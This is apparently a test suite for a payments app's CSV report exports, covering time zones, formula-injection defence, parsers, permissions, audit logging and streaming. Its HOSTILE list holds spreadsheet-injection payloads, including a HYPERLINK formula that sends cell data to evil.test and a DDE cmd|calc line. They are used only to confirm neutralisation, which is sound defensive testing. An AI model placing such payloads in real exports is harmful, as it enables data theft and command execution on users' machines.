import { sql } from "drizzle-orm";
import Papa from "papaparse";
import { useTestDatabase } from "../../support/db";
import { signIn, type SignedIn } from "../../support/auth";
import { chunksLeft } from "../../support/responses";
import { rows } from "../../../db/client.server";
import { createPayment } from "../../../app/modules/payments/payments.server";
import { issueRefund } from "../../../app/modules/refunds/refunds.server";
import { postLedgerTransaction } from "../../../app/modules/ledger/ledger.server";
import { adjustmentPosting } from "../../../app/modules/ledger/postings";
import { previewReport } from "../../../app/modules/exports/export.server";
import { exportReport } from "../../../app/web/exports/download.server";
import { getOptionalContext } from "../../../app/web/guard.server";
import { as } from "../../support/auth";
import { download, minorOf, readCsv } from "./helpers";
import { CARD_EXP_YEAR } from "../../support/cards";

/**
 * What an accountant sees when the file opens: time zones, hostile text, both parsers,
 * Excel's byte-order mark, names, permissions, the audit trail and streaming.
 */
const t = useTestDatabase({ seed: "demo" });

const COFFEE = { merchantId: "mer_demo_coffee" };
const TERMINAL = "term_coffee_web";
const IR_CARD = { number: "6037990000000006", expMonth: 12, expYear: CARD_EXP_YEAR, cvc: "123" };

let accountant: SignedIn;
let owner: SignedIn;
let persian: SignedIn;
let support: SignedIn;
let tzPaymentId: string;

const HOSTILE = [
  '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "=cmd|' /C calc'!A0",
  'Latte, large; "extra hot"\r\nsecond line\nthird line',
  'قهوه اسپرسو، "ویژه"\nسطر دوم',
  "Order #10001, 2 × \"Dune\"",
];

beforeAll(async () => {
  accountant = await signIn("accountant@coffee.test");
  owner = await signIn("owner@coffee.test");
  persian = await signIn("fa@coffee.test");
  support = await signIn("support@coffee.test");

  // A payment at 21:00 UTC: the next day in Tehran, the same day in New York.
  const tz = await createPayment(COFFEE, { amount: 3_000_000n, currency: "IRR", card: IR_CARD, description: "TZ probe" }, { terminalId: TERMINAL, now: new Date("2021-01-10T21:00:00Z") });
  if (!tz.ok) throw new Error(JSON.stringify(tz));
  tzPaymentId = tz.payment.id;
  // And a balance transaction at the same instant (a payment's charge is posted when it is captured: now).
  await postLedgerTransaction(
    t.db,
    adjustmentPosting({ id: "txn_tz_probe", merchantId: COFFEE.merchantId, currency: "IRR", createdAt: new Date("2021-01-10T21:00:00Z"), adjustmentId: "adj_tz_probe", amount: 7_000n, description: "TZ probe" }),
  );

  // Hostile descriptions and references, planted through the payments domain (as the API does).
  for (const [i, text] of HOSTILE.entries()) {
    const r = await createPayment(
      COFFEE,
      { amount: 1_000_000n + BigInt(i) * 1000n, currency: "IRR", card: IR_CARD, description: text, customerReference: i % 2 ? text.slice(0, 200) : `=ref${i}` },
      { terminalId: TERMINAL, now: new Date(`2021-02-01T10:0${i}:00Z`) },
    );
    if (!r.ok) throw new Error(JSON.stringify(r));
    if (i === 0) {
      const refund = await issueRefund(COFFEE, { paymentId: r.payment.id, amount: 250_000n, note: "=2+5 refunded", actor: { kind: "member", member: { user: { id: "usr_coffee_owner" }, role: "owner", merchant: { supportRefundLimit: 0n } } }, now: new Date("2021-02-02T10:00:00Z") });
      if (!refund.ok) throw new Error(JSON.stringify(refund));
    }
  }
});

describe("time zones", () => {
  it("a payment at 21:00 UTC is on the next day in Tehran and the same day in New York, in the rows and in the date filter", async () => {
    const cols = "columns=id,created,created_utc";
    const tehranNext = readCsv((await download(accountant, `/reports/payments.csv?from=2021-01-11&to=2021-01-11&tz=Asia/Tehran&${cols}`)).body);
    expect(tehranNext.header).toEqual(["id", "created (Asia/Tehran)", "created_utc"]);
    expect(tehranNext.records).toEqual([{ id: tzPaymentId, "created (Asia/Tehran)": "2021-01-11 00:30:00", created_utc: "2021-01-10 21:00:00" }]);
    const tehranSame = readCsv((await download(accountant, `/reports/payments.csv?from=2021-01-10&to=2021-01-10&tz=Asia/Tehran&${cols}`)).body);
    expect(tehranSame.records).toEqual([]);

    const nySame = readCsv((await download(accountant, `/reports/payments.csv?from=2021-01-10&to=2021-01-10&tz=America/New_York&${cols}`)).body);
    expect(nySame.records).toEqual([{ id: tzPaymentId, "created (America/New_York)": "2021-01-10 16:00:00", created_utc: "2021-01-10 21:00:00" }]);
    const nyNext = readCsv((await download(accountant, `/reports/payments.csv?from=2021-01-11&to=2021-01-11&tz=America/New_York&${cols}`)).body);
    expect(nyNext.records).toEqual([]);
  });

  it("the balance summary's period follows the chosen zone too", async () => {
    const adjustments = async (q: string) => {
      const { records } = readCsv((await download(accountant, `/reports/balance-summary.csv?${q}`)).body);
      return records.find((r) => r.line === "adjustments")!;
    };
    expect((await adjustments("from=2021-01-11&to=2021-01-12&tz=Asia/Tehran")).count).toBe("1");
    expect((await adjustments("from=2021-01-10&to=2021-01-11&tz=Asia/Tehran")).count).toBe("0");
    expect((await adjustments("from=2021-01-10&to=2021-01-11&tz=America/New_York")).count).toBe("1");
    expect((await adjustments("from=2021-01-11&to=2021-01-12&tz=America/New_York")).count).toBe("0");
  });

  it("states the zone in the file name and the range with its excluded end", async () => {
    const d = await download(accountant, "/reports/balance-summary.csv?from=2021-01-01&to=2021-02-01&tz=America/New_York");
    const cd = d.headers.get("content-disposition")!;
    expect(cd).toContain('filename="balance-summary_demo-coffee-roasters_from-2021-01-01_before-2021-02-01_America-New_York.csv"');
    const { records } = readCsv(d.body);
    expect(records[0]!.description).toContain("2021-01-01 00:00 America/New_York, included");
    expect(records.at(-1)!.description).toContain("2021-02-01 00:00 America/New_York, not included");
    expect(records[0]!["period_start (America/New_York)"]).toBe("2021-01-01 00:00:00");
    expect(records[0]!.period_start_utc).toBe("2021-01-01 05:00:00");
  });
});

describe("hostile text", () => {
  it("neutralises formulas in descriptions and references, keeps commas, quotes, newlines and Persian text, and keeps amounts numeric", async () => {
    const d = await download(accountant, "/reports/payments.csv?from=2021-02-01&to=2021-02-01&sort=created&columns=description,customer_reference,amount,net");
    expect(d.status).toBe(200);
    const { records } = readCsv(d.body);
    expect(records).toHaveLength(HOSTILE.length);
    HOSTILE.forEach((text, i) => {
      const dangerous = /^[=+\-@]/.test(text);
      expect(records[i]!.description).toBe(dangerous ? `'${text}` : text);
      const ref = i % 2 ? text.slice(0, 200) : `=ref${i}`;
      expect(records[i]!.customer_reference).toBe(/^[=+\-@]/.test(ref) ? `'${ref}` : ref);
      expect(records[i]!.amount).toBe(String(1_000_000 + i * 1000));
    });
    // No cell of the raw file starts a formula: every text field is quoted, with the quote mark first.
    for (const line of d.body.split("\r\n")) expect(line).not.toMatch(/(^|,)[=+@]/);
    expect(d.body).toContain('"\'=HYPERLINK(""http://evil.test/?x=""&A1,""Click"")"');
  });

  it("refund exports: negative amounts stay bare numbers while a hostile note is neutralised", async () => {
    const d = await download(accountant, "/reports/refunds.csv?from=2021-02-02&to=2021-02-02&columns=amount,note,description");
    const { records } = readCsv(d.body);
    expect(records).toEqual([{ amount: "-250000", note: "'=2+5 refunded", description: `'${HOSTILE[0]}` }]);
    expect(d.body.split("\r\n")[1]).toMatch(/^-250000,"/);
  });

  it("every report parses to the same records with papaparse and with the strict RFC 4180 reader", async () => {
    const [po] = await rows<{ id: string }>(t.db, sql`select payout_id as id from payout_items where merchant_id = 'mer_demo_coffee' limit 1`);
    for (const path of [
      "/reports/payments.csv?range=30d",
      "/reports/refunds.csv",
      "/reports/payouts.csv",
      `/reports/payout-reconciliation.csv?payout=${po!.id}`,
      "/reports/payout-reconciliation.csv?range=30d",
      "/reports/balance-summary.csv",
      "/reports/audit-log.csv",
    ]) {
      const d = await download(owner, `${path}${path.includes("?") ? "&" : "?"}excel=1`);
      expect(d.status, path).toBe(200);
      expect(d.bom, path).toBe(true);
      const { records } = readCsv(d.body);
      expect(records.length, path).toBeGreaterThan(0);
      // papaparse's own reading of the raw file (BOM and all) agrees too.
      const papa = Papa.parse<Record<string, string>>(d.text, { header: true, skipEmptyLines: true });
      expect(papa.data, path).toEqual(records);
    }
  });
});

describe("options", () => {
  it("chooses and orders columns, and writes minor units on request", async () => {
    const d = await download(accountant, "/reports/payments.csv?from=2021-02-01&to=2021-02-01&sort=created&columns=amount,id&amounts=minor");
    const { header, records } = readCsv(d.body);
    expect(header).toEqual(["amount_minor", "id"]);
    expect(records[0]!.amount_minor).toBe("1000000");
  });

  it("adds a byte-order mark when Excel compatibility is on: by default for Persian users only", async () => {
    expect((await download(accountant, "/reports/balance-summary.csv")).bom).toBe(false);
    expect((await download(persian, "/reports/balance-summary.csv")).bom).toBe(true);
    expect((await download(persian, "/reports/balance-summary.csv?excel=0")).bom).toBe(false);
    expect((await download(accountant, "/reports/balance-summary.csv?excel=1")).bom).toBe(true);
  });

  it("answers a bad parameter with 400 naming the field, never a 500", async () => {
    for (const [q, field] of [
      ["tz=Mars/Olympus", "tz"],
      ["columns=id,secret", "columns"],
      ["amounts=cents", "amounts"],
      ["excel=maybe", "excel"],
      ["from=2021-02-30", "from"],
      ["status=exploded", "status"],
      ["min=abc", "min"],
    ] as const) {
      const d = await download(accountant, `/reports/payments.csv?${q}`);
      expect(d.status, q).toBe(400);
      expect(d.text.startsWith(`${field}: `), `${q}: ${d.text}`).toBe(true);
    }
    const b = await download(accountant, "/reports/balance-summary.csv?from=2021-02-01&to=2021-01-01");
    expect(b.status).toBe(400);
    expect(b.text).toMatch(/^to: /);
    const p = await download(accountant, "/reports/payout-reconciliation.csv?payout=po_nope");
    expect(p.status).toBe(400);
    expect(p.text).toMatch(/^payout: No payout po_nope/);
    const unknown = await download(accountant, "/reports/secrets.csv");
    expect(unknown.status).toBe(404);
  });
});

describe("permissions and audit", () => {
  it("needs reports:export, and audit:view for the audit log", async () => {
    expect((await download(support, "/reports/payments.csv")).status).toBe(403);
    expect((await download(accountant, "/reports/audit-log.csv")).status).toBe(403);
    expect((await download(owner, "/reports/audit-log.csv")).status).toBe(200);
  });

  it("audits every export with its report, filters and row count", async () => {
    const d = await download(accountant, "/reports/payments.csv?range=30d&status=captured&columns=id");
    const n = readCsv(d.body).records.length;
    const [e] = await rows<{ details: Record<string, unknown> | string; outcome: string; actor_email: string; target_id: string }>(
      t.db,
      sql`select details, outcome::text as outcome, actor_email, target_id from audit_events
          where action = 'export.download' and merchant_id = 'mer_demo_coffee' order by id desc limit 1`,
    );
    const details = typeof e!.details === "string" ? JSON.parse(e!.details) : e!.details;
    expect(e!.outcome).toBe("success");
    expect(e!.actor_email).toBe("accountant@coffee.test");
    expect(e!.target_id).toBe("payments");
    expect(details).toMatchObject({ report: "payments", rows: n, completed: true, timeZone: "Asia/Tehran", columns: ["id"] });
    expect(details.filters).toMatchObject({ range: "30d", status: ["captured"] });
  });
});

describe("streaming", () => {
  async function ctxOf(user: SignedIn) {
    return (await getOptionalContext(as(user, "/reports")))!;
  }

  it("sends the header before reading any row, then one batch per read", async () => {
    const ctx = await ctxOf(accountant);
    const res = await exportReport(ctx, "payments", as(accountant, "/reports/payments.csv?columns=id"), { batchSize: 100 });
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    const first = decoder.decode((await reader.read()).value);
    expect(first).toBe('"id"\r\n');
    const second = decoder.decode((await reader.read()).value);
    expect(second.split("\r\n").filter(Boolean)).toHaveLength(100);
    await reader.cancel();
  });

  it("a cancelled download stops reading and is audited as not completed", async () => {
    const ctx = await ctxOf(accountant);
    const controller = new AbortController();
    const req = new Request(as(accountant, "/reports/payout-reconciliation.csv?columns=balance_transaction_id"), { signal: controller.signal });
    const res = await exportReport(ctx, "payout-reconciliation", req, { batchSize: 50 });
    const reader = res.body!.getReader();
    await reader.read(); // header
    await reader.read(); // first batch
    controller.abort();
    expect(await chunksLeft(reader)).toBeLessThanOrEqual(1);
    const [e] = await rows<{ details: Record<string, unknown> | string; outcome: string }>(
      t.db,
      sql`select details, outcome::text as outcome from audit_events where action = 'export.download' order by id desc limit 1`,
    );
    const details = typeof e!.details === "string" ? JSON.parse(e!.details) : e!.details;
    expect(e!.outcome).toBe("failure");
    expect(details).toMatchObject({ report: "payout-reconciliation", completed: false, stopped: "cancelled by the client" });
    expect(details.rows).toBeLessThanOrEqual(100);
  });

  it("the preview's row count is exact and its size estimate close", async () => {
    const ctx = await ctxOf(accountant);
    const q = "range=90d&columns=id,created,created_utc,amount,description,card_last4";
    const p = await previewReport(ctx, "payments", new URLSearchParams(q));
    if (!p.ok) throw new Error(p.message);
    const d = await download(accountant, `/reports/payments.csv?${q}`);
    const actualRows = readCsv(d.body).records.length;
    expect(p.preview.rows).toBe(actualRows);
    const actualBytes = Buffer.byteLength(d.text);
    expect(Math.abs(p.preview.estimatedBytes - actualBytes) / actualBytes).toBeLessThan(0.2);
    expect(p.preview.fileName).toMatch(/^payments_demo-coffee-roasters_from-\d{4}-\d{2}-\d{2}_before-\d{4}-\d{2}-\d{2}_Asia-Tehran\.csv$/);
  });
});

describe("sums stay exact in major units", () => {
  it("Northwind's cents add up to the payment list's total", async () => {
    const nw = await signIn("accountant@northwind.test");
    const d = await download(nw, "/reports/payments.csv?status=captured&columns=amount,fee,net");
    const { records } = readCsv(d.body);
    const [o] = await rows<{ s: string; f: string }>(t.db, sql`select sum(amount)::text s, sum(fee)::text f from payments where merchant_id = 'mer_northwind' and status = 'captured'`);
    expect(records.reduce((s, r) => s + minorOf(r.amount!, 2), 0n)).toBe(BigInt(o!.s));
    expect(records.reduce((s, r) => s + minorOf(r.net!, 2), 0n)).toBe(BigInt(o!.s) - BigInt(o!.f));
  });
});

describe("the Reports page", () => {
  async function page(user: SignedIn, query: string) {
    const { loader: pageLoader } = await import("../../../app/routes/_app.reports._index");
    const res = (await pageLoader({ request: as(user, `/reports${query}`), params: {}, context: {} })) as Response;
    return (await res.json()) as Awaited<ReturnType<typeof import("../../../app/web/exports/reports-page.server").reportsPage>>;
  }

  it("opens on last month's payments with the default columns, a row count and a size, and a link that downloads exactly that", async () => {
    const s = await page(accountant, "");
    expect(s.report).toBe("payments");
    expect(s.reports.map((r) => r.id)).toEqual(["payments", "refunds", "payouts", "payout-reconciliation", "balance-summary", "subscriptions", "invoices"]);
    expect(s.start < s.end).toBe(true);
    expect(s.start.endsWith("-01") && s.end.endsWith("-01")).toBe(true);
    expect(s.error).toBeNull();
    expect(s.columns.filter((c) => c.checked).map((c) => c.key)).toEqual([
      "id", "created", "created_utc", "status", "currency", "amount", "amount_refunded", "fee", "net", "description", "card_brand", "card_funding", "card_last4", "terminal", "payment_link",
    ]);
    expect(s.preview!.rows).toBeGreaterThan(0);
    expect(s.preview!.estimatedBytes).toBeGreaterThan(s.preview!.rows * 50);
    const d = await download(accountant, s.href);
    expect(readCsv(d.body).records).toHaveLength(s.preview!.rows);
    expect(d.headers.get("content-disposition")).toContain(s.preview!.fileName);
  });

  it("moves and unticks columns, and resets them when the report changes", async () => {
    const first = await page(accountant, "?report=payout-reconciliation");
    const order = first.columns.map((c) => c.key);
    const ticked = first.columns.filter((c) => c.checked).map((c) => c.key).filter((k) => k !== "description");
    const q = new URLSearchParams({ report: "payout-reconciliation", shown: "payout-reconciliation", order: order.join(","), move: "net:up", start: "", end: "" });
    for (const k of ticked) q.append("col", k);
    const moved = await page(accountant, `?${q}`);
    const keys = moved.columns.map((c) => c.key);
    expect(keys.indexOf("net")).toBe(order.indexOf("net") - 1);
    expect(moved.columns.find((c) => c.key === "description")!.checked).toBe(false);
    expect(new URL(moved.href, "http://x").searchParams.get("columns")!.split(",")).toEqual(keys.filter((k) => ticked.includes(k)));
    // All time: no range in the link.
    expect(new URL(moved.href, "http://x").searchParams.has("arrival_from")).toBe(false);

    q.set("report", "balance-summary");
    const switched = await page(accountant, `?${q}`);
    expect(switched.columns.filter((c) => c.checked).map((c) => c.key)).toEqual(["line", "description", "currency", "count", "amount", "period_start", "period_start_utc", "period_end", "period_end_utc"]);
  });

  it("turns the page's [start, end) into each endpoint's own terms", async () => {
    const common = "start=2021-01-01&end=2021-02-01&tz=America/New_York";
    const link = async (report: string) => new URL((await page(accountant, `?report=${report}&${common}`)).href, "http://x").searchParams;
    expect((await link("payments")).get("to")).toBe("2021-01-31");
    expect((await link("payouts")).get("to")).toBe("2021-01-31");
    expect((await link("payout-reconciliation")).get("arrival_to")).toBe("2021-02-01");
    expect((await link("balance-summary")).get("to")).toBe("2021-02-01");
    expect((await link("balance-summary")).get("tz")).toBe("America/New_York");
  });

  it("shows a bad choice beside its field instead of failing, offers the audit log to owners, and ticks Excel for Persian users", async () => {
    const bad = await page(accountant, "?report=balance-summary&start=2021-02-01&end=2021-01-01");
    expect(bad.error?.field).toBe("end");
    expect(bad.preview).toBeNull();
    const zone = await page(accountant, "?report=payments&tz=Nowhere/Land");
    expect(zone.error?.field).toBe("tz");
    expect((await page(owner, "")).reports.map((r) => r.id)).toContain("audit-log");
    expect((await page(persian, "")).excel).toBe(true);
    expect((await page(accountant, "")).excel).toBe(false);
  });
});
